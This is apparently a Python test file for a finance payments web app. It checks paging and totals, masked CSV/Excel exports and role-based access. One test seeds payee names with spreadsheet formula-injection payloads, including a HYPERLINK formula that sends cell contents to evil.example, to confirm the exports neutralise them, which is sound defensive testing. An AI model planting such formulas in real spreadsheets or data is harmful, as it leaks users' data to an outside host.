"""Finance lists that scale (issue 17): a batch's payments, the batches and the exceptions queue page in the database
with their totals; their downloads are streamed, masked and safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import openpyxl

from payments.service import create_batch, record_entitlements
from tests.payments.factories import MAKER, SYSTEM, THRESHOLD_FEN, payee, policy
from tests.web import alogin, asgi_client, ensure_user

HTML = {"accept": "text/html"}


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


async def batch_of(n: int, *, names: dict[int, str] | None = None) -> int:
    facts = policy(code=f"LIST-{n}", budget_fen=n * 100_000 + 1)
    rows = [payee(i) for i in range(n)]
    for i, name in (names or {}).items():
        rows[i] = rows[i].model_copy(update={"payee_name": name})
    await record_entitlements(facts, rows, actor=SYSTEM)
    made = await create_batch(actor=MAKER, policy_code=facts.code, second_checker_threshold_fen=THRESHOLD_FEN)
    return made.batch_id


async def test_a_batch_page_shows_every_payment_a_page_at_a_time_with_the_total(fresh_db):
    """The page showed the first 200 of 797 and said nothing of the rest."""
    batch_id = await batch_of(797)
    await ensure_user("u_list_checker", "finance_checker")
    async with asgi_client() as client:
        await alogin(client, "u_list_checker")
        first = await client.get(f"/finance/batches/{batch_id}", headers=HTML)
        assert first.status_code == 200
        assert "共 797 笔，第 1/8 页" in text_of(first.text)
        last = await client.get(f"/finance/batches/{batch_id}?page=8", headers=HTML)
        assert "共 797 笔，第 8/8 页" in text_of(last.text)
        seen = set()
        for page in range(1, 9):
            html = (await client.get(f"/finance/batches/{batch_id}?page={page}", headers=HTML)).text
            body = html.split('data-testid="payments"', 1)[1].split("</table>", 1)[0]
            seen.update(re.findall(r"<tr><td>(\d+)</td>", body))
        assert len(seen) == 797
        # Search and sort keep the total honest, and the links keep the filters.
        found = await client.get(f"/finance/batches/{batch_id}?q=%E5%BC%A079&sort=-amount", headers=HTML)
        assert "共 8 笔，第 1/1 页" in text_of(found.text)  # 张79, 张790…张796
        # The JSON list pages the same way, its total in a header.
        api = await client.get(f"/api/finance/batches/{batch_id}/payments?page=2&size=300")
        assert api.status_code == 200 and len(api.json()) == 300 and api.headers["x-total-count"] == "797"
        assert (await client.get(f"/api/finance/batches/{batch_id}/payments?limit=5")).headers["x-total-count"] == "797"


async def test_the_batch_list_and_the_exceptions_queue_page_with_totals(fresh_db):
    for n in range(3):
        await batch_of(n + 1)
    await ensure_user("u_list_maker", "finance_maker")
    async with asgi_client() as client:
        await alogin(client, "u_list_maker")
        r = await client.get("/finance?size=2", headers=HTML)
        assert "共 3 批，第 1/2 页" in text_of(r.text)
        r = await client.get("/finance?q=LIST-2", headers=HTML)
        assert "共 1 批，第 1/1 页" in text_of(r.text)
        r = await client.get("/finance/exceptions", headers=HTML)
        assert "共 0 笔，第 1/1 页" in text_of(r.text)
        assert (await client.get("/finance?sort=maker_password", headers=HTML)).status_code == 400


async def test_a_batch_download_is_masked_safe_and_readable_in_excel(fresh_db):
    batch_id = await batch_of(3, names={1: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', 2: "@SUM(1+1)"})
    await ensure_user("u_list_checker", "finance_checker")
    await ensure_user("u_list_officer", "policy_officer")
    rows = [payee(i) for i in range(3)]
    async with asgi_client() as client:
        await alogin(client, "u_list_checker")
        page = (await client.get(f"/finance/batches/{batch_id}", headers=HTML)).text
        assert f"/finance/batches/{batch_id}/export?format=csv" in page and "format=xlsx" in page
        r = await client.get(f"/finance/batches/{batch_id}/export?format=csv")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert "attachment" in r.headers["content-disposition"]
        assert r.content.startswith("\ufeff".encode())  # UTF-8 with BOM: Excel reads the Chinese
        table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert table[0][:6] == ["支付编号", "批次", "对象类型", "证件号码", "收款人", "收款账户"]
        assert len(table) == 4
        by_name = {row[4]: row for row in table[1:]}
        assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")' in by_name and "'@SUM(1+1)" in by_name
        for row, p in zip(table[1:], rows):
            assert row[3] == p.subject_id[:3] + "*" * 11 + p.subject_id[-4:]
            assert row[5] == p.payee_account[:4] + "****" + p.payee_account[-4:]
        assert not any(p.payee_account in r.text or p.subject_id in r.text for p in rows)

        x = await client.get(f"/finance/batches/{batch_id}/export?format=xlsx")
        assert x.status_code == 200 and "spreadsheetml" in x.headers["content-type"]
        sheet = openpyxl.load_workbook(io.BytesIO(x.content)).active
        values = [[c.value for c in row] for row in sheet.iter_rows()]
        assert values[0][3] == "证件号码" and len(values) == 4
        names = [v[4] for v in values[1:]]
        assert names[1].startswith("'=HYPERLINK") and names[2] == "'@SUM(1+1)"
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula anywhere
        assert [v[5] for v in values[1:]] == [row[5] for row in table[1:]]
        # English headers in English mode.
        client.cookies.set("lang", "en")
        en = await client.get(f"/finance/batches/{batch_id}/export?format=csv")
        assert en.content.decode("utf-8-sig").startswith("Payment,Batch,")
        assert (await client.get(f"/finance/batches/{batch_id}/export?format=pdf")).status_code == 400
    async with asgi_client() as client:  # the page's own role check: an officer may not download it
        await alogin(client, "u_list_officer")
        assert (await client.get(f"/finance/batches/{batch_id}/export?format=csv")).status_code == 403
        assert (await client.get("/finance/exceptions/export?format=xlsx")).status_code == 403
